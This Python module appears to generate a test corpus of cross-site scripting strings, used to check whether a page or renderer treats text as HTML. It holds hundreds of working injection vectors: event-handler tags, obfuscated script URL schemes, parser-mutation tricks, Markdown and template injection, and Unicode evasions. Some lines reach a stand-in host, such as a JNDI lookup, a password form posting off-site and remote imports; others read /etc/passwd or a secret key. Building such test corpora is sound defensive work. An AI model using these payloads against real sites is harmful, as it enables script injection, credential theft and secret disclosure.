"""Strings that want to run: a corpus generated from few ideas, and what in a page gives them away.

Each payload calls `__ran`, which the watching page knows, or leaves a mark behind that only a page can make of it that
took text for HTML: an element <x-hostile>, an attribute data-hostile, a request for a name with "hostile" in it.
"""

from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from itertools import chain, product

CALL = "__ran(1)"
ELEMENT, ATTRIBUTE, NAME = "x-hostile", "data-hostile", "hostile"
CANARY = f"'\"><{ELEMENT} {ATTRIBUTE}=1></{ELEMENT}><img src={NAME} onerror={CALL}>"
"""One string for every context: it ends an attribute in either quote, opens an element, and runs."""

FIRING = (
    ("img", "src={name}", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("details", "open", "ontoggle"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("a", "href=# tabindex=0 autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("p", "contenteditable autofocus", "onfocus"),
    ("video", "src={name}", "onerror"),
    ("audio", "src={name}", "onerror"),
    ("object", "data={name}", "onerror"),
    ("embed", "src={name}", "onload"),
    ("iframe", "src=about:blank", "onload"),
    ("script", "src={name}", "onerror"),
    ("link", "rel=stylesheet href={name}", "onerror"),
    ("style", "", "onload"),
    ("p", "style=animation:slide-in-left", "onanimationstart"),
    ("p", "style=transition:outline 1s tabindex=1", "ontransitionend"),
    ("marquee", "", "onstart"),
    ("p", "", "onpointerenter"),
    ("p", "", "onclick"),
    ("x", "tabindex=1", "onfocusin"),
    ("form", "", "onsubmit"),
    ("dialog", "open", "onclose"),
    ("p", "popover", "onbeforetoggle"),
)
GAPS = (" ", "\t", "\n", "\f", "/", " / ", "\r")
QUOTES = ("{0}", '"{0}"', "'{0}'", "&#95;{1}", '"&lowbar;{1}"', "{0}//")

SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "\x01javascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "java\r\nscript:{0}",
    "javascript\n:{0}",
    "java&Tab;script:{0}",
    "java&NewLine;script&colon;{0}",
    "&#106;avascript:{0}",
    "&#x6A;avascript&#58;{0}",
    "&#0000106avascript:{0}",
    "&#32;javascript:{0}",
    "javascript://%0a{0}",
    "javascript:123;{0}",
    "javascript&#x3a;{0}",
    "javascript:/*--></title></style></textarea></script>*/{0}",
    "view-source:javascript:{0}",
    "vbscript:MsgBox({0})",
    "VBSCRIPT:{0}",
    "data:text/html,<script>parent.{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'/>",
    "data:,{0}",
    "blob:null/{0}",
    "filesystem:javascript:{0}",
    "\u2028javascript:{0}",
    "\ufeffjavascript:{0}",
    "ｊavascript:{0}",
    "javascript\u200b:{0}",
    "//hostile.example/{0}",
    "\\\\hostile.example\\{0}",
)
CARRIERS = (
    '<a href="{0}">word</a>',
    "<a href='{0}'>word</a>",
    "<a href={0}>word</a>",
    '<svg><a xlink:href="{0}"><text y=9>word</text></a></svg>',
    '<svg><use href="{0}"/></svg>',
    '<svg><animate attributeName=href values="{0}"/></svg>',
    '<math href="{0}">word</math>',
    '<math><mrow xlink:href="{0}">word</mrow></math>',
    '<form action="{0}"><button>word</button></form>',
    '<button form=x formaction="{0}">word</button>',
    '<input type=image src=# formaction="{0}">',
    '<iframe src="{0}"></iframe>',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<area href="{0}">',
    '<base href="{0}">',
    '<link rel=import href="{0}">',
    '<meta http-equiv=refresh content="0;url={0}">',
    '<blockquote cite="{0}">word</blockquote>',
    '<img srcset="{0} 2x">',
    '<table background="{0}"><tr><td>word</table>',
    "[word]({0})",
    "[word](<{0}>)",
    '[word]({0} "title")',
    "![word]({0})",
    "<{0}>",
    "[word]\n\n[word]: {0}",
    "[a][b]\n\n[b]: <{0}> 'title'",
    "| [word]({0}) |\n|---|\n| [word]({0}) |",
    "- > [*wo**rd*]({0})**",
)

ENDS = (
    '"', "'", "`", '">', "'>", "-->", "--!>", "<!-->", "]]>", "?>", "%>", "</textarea>", "</title>", "</noscript>",
    "</style>", "</script>", "</template>", "</select>", "</xmp>", "</iframe>", "</noembed>", "</noframes>",
    "</plaintext>", "</svg>", "</math>", "</table>", "</button>", "</option></select>", "</pre></code>", "\\\"", "\\'",
    "\\\\\"", "</ScRiPt\n>", "</textarea\t/x>", "</title/x>", "&quot;>", "&#34;>", "\n\n", "```\n", "~~~\n", "\\`", "&lt;",
)  # fmt: skip
OPENED = (
    CANARY,
    f"<script>{CALL}</script>",
    f"<ScRiPt/x>{CALL}</sCrIpT >",
    f"<svg/onload={CALL}>",
    f" autofocus tabindex=1 onfocus={CALL} {ATTRIBUTE}=1 ",
    f" onmouseover={CALL} {ATTRIBUTE} x=",
    f"<{ELEMENT} {ATTRIBUTE}>",
    f";{CALL};//",
    f"-{CALL}-",
)

MUTATIONS = (
    "<noscript><p title=\"</noscript>{0}\">",
    "<svg></p><style><a id=\"</style>{0}\">",
    "<math><mtext><table><mglyph><style><!--</style>{0}-->",
    "<math><mtext><table><mglyph><style><math>{0}</style>",
    "<form><math><mtext></form><form><mglyph><style></math>{0}",
    "<svg><title><style>{0}</style></title></svg>",
    "<svg><desc><![CDATA[</desc>{0}]]></svg>",
    "<svg><![CDATA[><image xlink:href=\"]]>{0}\">",
    "<math><annotation-xml encoding=\"text/html\"><p>{0}</p></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='{0}'></foreignObject></svg>",
    "<select><template><style><!--</style>{0}--></template></select>",
    "<template>{0}</template>",
    "<template shadowrootmode=open>{0}</template>",
    "<xmp><p title=\"</xmp>{0}\">",
    "<listing>&lt;/listing>{0}</listing>",
    "<textarea>&lt;/textarea>{0}</textarea>",
    "<plaintext>{0}",
    "<style><style/>{0}",
    "<!--><p>{0}-->",
    "<!-- --!>{0}-->",
    "<!--a--\u3000>{0}-->",
    "<!DOCTYPE x [<!ENTITY y \"{0}\">]>&y;",
    "<?xml-stylesheet href=\"javascript:__ran(1)\"?>{0}",
    "<?php {0} ?>",
    "<![CDATA[{0}]]>",
    "<![if true]>{0}<![endif]>",
    "<table><tr><td><table><caption>{0}</table>",
    "<a><a><table><a>{0}",
    "<b><p></b>{0}",
    "<code>`</code>{0}`",
    "&lt;x&gt;&lt;/x&gt;{0}",
    "<img alt=\"`><img src=x\" title='`{0}'>",
    "<p id=x name=__proto__>{0}",
    "<isindex type=image src=1>{0}",
)  # fmt: skip

PAGE_TAKERS = (
    f'<base href="https://{NAME}.example/">',
    f'<meta http-equiv="refresh" content="0;url=https://{NAME}.example/">',
    f'<link rel="stylesheet" href="https://{NAME}.example/x.css">',
    f'<link rel="dns-prefetch preconnect prefetch" href="https://{NAME}.example/">',
    f"<style>@import '//{NAME}.example/x.css';</style>",
    f'<p style="background:url(//{NAME}.example/x)">word</p>',
    f'<p style="width:expression({CALL});-moz-binding:url({NAME})">word</p>',
    f"<style>*{{background:url({NAME})}}</style>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;parent.{CALL}&lt;/script&gt;"></iframe>',
    f'<img srcset="{NAME} 1x, {NAME}2 2x">',
    f'<picture><source srcset={NAME}><img src=""></picture>',
    f'<video poster={NAME}><track src={NAME} default></video>',
    f'<input type=image src={NAME}>',
    f"![word](//{NAME}.example/x.png)",
    f"![word][r]\n\n[r]: https://{NAME}.example/x.png",
    f'<svg><image href="//{NAME}.example/x"/><script href="//{NAME}.example/x"/></svg>',
    f'<script type="importmap">{{"imports":{{"/static/js/composer.js":"//{NAME}.example/x.js"}}}}</script>',
    f'<script type="speculationrules">{{"prefetch":[{{"urls":["//{NAME}.example/"]}}]}}</script>',
    f'<form action="//{NAME}.example/"><input name=password></form>',
    f'<form id=search {ATTRIBUTE}><input name=attributes><input name=children></form>',
    f'<a id=refused name=body href="cid:x" {ATTRIBUTE}></a><img name=getElementById {ATTRIBUTE} src={NAME}>',
    f'<div popover id=text {ATTRIBUTE}>word</div><button popovertarget=text {ATTRIBUTE}>x</button>',
    f'<frameset><frame src="javascript:{CALL}"></frameset>',
    f'<applet code={NAME}></applet><bgsound src={NAME}>',
    f'<portal src={NAME}></portal><fencedframe src={NAME}></fencedframe>',
    f'<object type="text/html" data="data:text/html,<script>parent.{CALL}</script>"></object>',
    f'<html manifest={NAME} onmouseover={CALL}><head profile={NAME}>',
    f'<div is="x" slot="x" part="x" {ATTRIBUTE}=1 style="position:fixed;inset:0">word</div>',
)  # fmt: skip
MARKDOWN = (
    f"word {{: onclick={CALL} {ATTRIBUTE}=1 }}",
    f"# word {{: #x {ATTRIBUTE}=1 onmouseover={CALL} }}",
    f"[word](/x){{: target=_blank onclick={CALL} {ATTRIBUTE}=1}}",
    f'[word](x "title\\" onmouseover={CALL} {ATTRIBUTE}=1 x=\\"")',
    f'[word](x "a" onmouseover="{CALL}" {ATTRIBUTE}="1")',
    f"[word]('onmouseover={CALL}')",
    f"![word](x'onerror='{CALL})",
    f'![word" onerror="{CALL}" {ATTRIBUTE}="1](x)',
    f'![a](x "b" onerror={CALL} {ATTRIBUTE}=1)',
    f"[word]: x (title\" onmouseover={CALL} {ATTRIBUTE}=1)\n\n[word]",
    f"[^1]\n\n[^1]: <img src={NAME} onerror={CALL}>",
    f'[^"{ATTRIBUTE}=1]\n\n[^"{ATTRIBUTE}=1]: word',
    f"*[HTML]: \" onmouseover={CALL} {ATTRIBUTE}=1\n\nHTML",
    f"<https://x.example/\"onmouseover={CALL}/{ATTRIBUTE}=1/>",
    f"<a@x.example\" onmouseover=\"{CALL}>",
    f"[a](javascript:{CALL}//<em>*b*</em>)",
    f"[a](java**script**:{CALL})",
    f"[a](http://*x*_y_`z`\"onmouseover={CALL})",
    f"| a | <img src={NAME} onerror={CALL}> |\n|---|:-\" {ATTRIBUTE}=1 -:|\n| b | `c|`<svg onload={CALL}> |",
    f"```html\"onmouseover={CALL} {ATTRIBUTE}=1\n<x>\n```",
    f"~~~ {{ .x {ATTRIBUTE}=1 onclick={CALL} }}\ncode\n~~~",
    f"<div markdown=1 {ATTRIBUTE}=1>\n\n<script>{CALL}</script>\n\n</div>",
    f"<p markdown=\"span\">*<b>{{: onclick={CALL} }}*</p>",
    f"    <script>{CALL}</script>\n\n<script>\n\n{CALL}\n\n</script>",
    f"`<img src={NAME} onerror={CALL}>` ``` <img src={NAME} onerror={CALL}>",
    f"&lt;script&gt;{CALL}&lt;/script&gt; &amp;lt;img src={NAME} onerror={CALL}&amp;gt;",
    f"\\<script>{CALL}\\</script> \\[x](javascript:{CALL})",
    f"\u0002wzxhzdk:0\u0003 \u0002klzzwxh:0001\u0003 <img src={NAME} onerror={CALL}>",
    f"\u0002amp\u0003lt;img src={NAME} onerror={CALL}\u0002amp\u0003gt;",
    f"- a\n\n    <img src={NAME}\n    onerror={CALL}>\n\n1. <b\n onclick={CALL}>",
    f"Term\n: <svg/onload={CALL}>\n\n[TOC]\n\n# <img src={NAME} onerror={CALL}>",
    f"a<br onclick={CALL} {ATTRIBUTE}=1>b<hr {ATTRIBUTE}=1 onclick={CALL}>",
    f"<abbr title='\"><img src={NAME} onerror={CALL}>' onclick={CALL}>word</abbr>",
    f"<ol start='1\" onclick={CALL} {ATTRIBUTE}=1'><li>word</li></ol>",
    f"<!-- {{{{ x }}}} --> <!--\n\n<script>{CALL}</script>\n\n-->",
)  # fmt: skip
_TEMPLATED = (
    f"{left}{code}{right}"
    for (left, right), code in product(
        (
            ("{{", "}}"),
            ("{%", "%}"),
            ("${", "}"),
            ("#{", "}"),
            ("<%=", "%>"),
            ("[[", "]]"),
            ("{!", "!}"),
            ("`${", "}`"),
        ),
        (CALL, "constructor.constructor('__ran(1)')()", "settings.SECRET_KEY"),
    )
)
TEMPLATES = (
    *_TEMPLATED,
    "{% load static %}{% debug %}{% include '/etc/passwd' %}",
    "{{ x|safe }}{% autoescape off %}<x-hostile>{% endautoescape %}",
    "{#-#}{% verbatim %}{{ 7|add:7 }}{% endverbatim %}{% endblock %}",
    "__prefix__ %(name)s %s {0} {0.__class__} ${jndi:ldap://hostile.example/x}",
    f"<div ng-app v-html=\"'<img src={NAME} onerror={CALL}>'\" x-data @click={CALL} :x={CALL} {ATTRIBUTE}=1>",
    f"\"}}]}}</script><script>{CALL}</script>",
    f"</script\t><script>{CALL}//",
    f"<!--<script>{CALL}</script>",
    f"\\u003cimg src={NAME} onerror={CALL}\\u003e \\x3csvg/onload={CALL}\\x3e",
    f"\"+{CALL}+\" '+{CALL}+' `;{CALL};` */{CALL}/*",
    f"\u2028{CALL}\u2029//\"\u2028;{CALL}",
    "{\"__proto__\":{\"innerHTML\":\"<img src=hostile onerror=__ran(1)>\"},\"constructor\":1,\"toString\":1}",
    "__proto__",
    "constructor",
    "]]>&xxe;<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">__ran(1)</x:script>",
    "]]><html:img xmlns:html='http://www.w3.org/1999/xhtml' src='hostile' onerror='__ran(1)'/>",
    "=HYPERLINK(\"https://hostile.example/\")",
)  # fmt: skip
SIGNS = (
    f"＜script＞{CALL}＜/script＞",
    f"‹img src={NAME} onerror={CALL}›",
    f"\u202e<img src={NAME} onerror={CALL}>\u202c",
    f"\u2066\u202d\u202e>tpircs<{CALL}\u2069",
    f"<\u00a0img src={NAME} onerror={CALL}>",
    f"<i\u017fcript>{CALL}</i\u017fcript>",
    f"<\u017fcript>{CALL}</\u017fcript>",
    f"<ımg src={NAME} onerror={CALL}>",
    f"<s\u0301cript>{CALL}</s\u0301cript>",
    f"<\u0338script>{CALL}",
    f"<img\u200b src={NAME} on\u00aderror={CALL}>",
    f"<img\u3000src={NAME}\u2003onerror={CALL}>",
    f"<img src={NAME}\u0085onerror={CALL}>",
    f"<svg\u000conload={CALL}>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\ufeff<script>{CALL}</script>",
    f"\u2028<svg/onload={CALL}>\u2029",
    f"<scr\ufffdipt>{CALL}</scr\ufffdipt>",
    f"\U000e003cimg\U000e003e<img src={NAME} onerror={CALL}>",
    f"%3Cimg%20src={NAME}%20onerror={CALL}%3E %253Csvg%2520onload={CALL}%253E",
    f"&#60;img src={NAME} onerror={CALL}&#62; &#x3C;svg/onload={CALL}&#x3E; &LT;svg onload={CALL}&GT;",
    f"\u0300\u0300<img src={NAME} onerror={CALL}>" + "\u0300" * 40,
    f"<svg onload={CALL}>" + "\u202e" * 60,
    "\u061c\u200f\u200e\u2067" + CANARY,
)


@dataclass(frozen=True, slots=True)
class Hand:
    """Payloads, dealt one after the other for ever."""

    payloads: Sequence[str]

    def deal(self, turn: int, count: int) -> str:
        """`count` payloads from the turn's on, each in its paragraph, with the canary ahead and behind."""
        chosen = [self.payloads[(turn + n) % len(self.payloads)] for n in range(count)]
        return "\n\n".join([CANARY, *chosen, CANARY])


def corpus() -> tuple[str, ...]:
    """Every payload once, in an order that has neighbours of different kinds."""
    kinds = [list(dict.fromkeys(kind)) for kind in _kinds()]
    spread = sorted(
        ((at + 0.5) / len(kind), number, payload)
        for number, kind in enumerate(kinds)
        for at, payload in enumerate(kind)
    )
    return tuple(dict.fromkeys(payload for _, _, payload in spread))


def few() -> tuple[str, ...]:
    """One of each kind of idea, for the short form."""
    return (CANARY, OPENED[1], MUTATIONS[0].format(CANARY), MARKDOWN[3], TEMPLATES[-4], f"[word](java\nscript:{CALL})")


def _kinds() -> Iterator[Iterator[str]]:
    yield _handlers()
    yield (carrier.format(scheme.format(CALL)) for carrier, scheme in product(CARRIERS, SCHEMES))
    yield (end + opened for end, opened in product(ENDS, OPENED))
    yield (mutation.format(inner) for mutation, inner in product(MUTATIONS, (OPENED[0], OPENED[1], OPENED[3])))
    yield chain(PAGE_TAKERS)
    yield chain(MARKDOWN)
    yield chain(TEMPLATES)
    yield chain(SIGNS)


def _handlers() -> Iterator[str]:
    """Every element in one spelling, and each gap, quote and case with every element in turn."""
    for number, (tag, given, event) in enumerate(FIRING):
        for step in range(len(QUOTES)):
            gap, quote = GAPS[(number + step) % len(GAPS)], QUOTES[(number * 5 + step) % len(QUOTES)]
            name = event.upper() if step % 2 else event
            value = quote.format(CALL, CALL.removeprefix("_"))
            yield f"<{tag}{gap}{given.format(name=NAME)}{gap}{name}={value}>{ELEMENT}"
